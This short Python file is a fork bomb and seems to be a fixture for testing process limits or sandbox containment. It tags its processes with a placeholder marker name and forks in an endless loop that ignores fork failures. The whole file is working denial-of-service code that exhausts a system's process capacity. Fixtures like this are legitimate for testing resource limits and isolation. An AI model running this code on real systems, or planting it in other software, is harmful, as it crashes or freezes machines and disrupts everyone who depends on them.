# A fork bomb that keeps trying when fork fails. Its processes carry the marker as their name.
import os

open("/proc/self/comm", "w").write("@MARKER@")
while True:
    try:
        os.fork()
    except OSError:
        pass
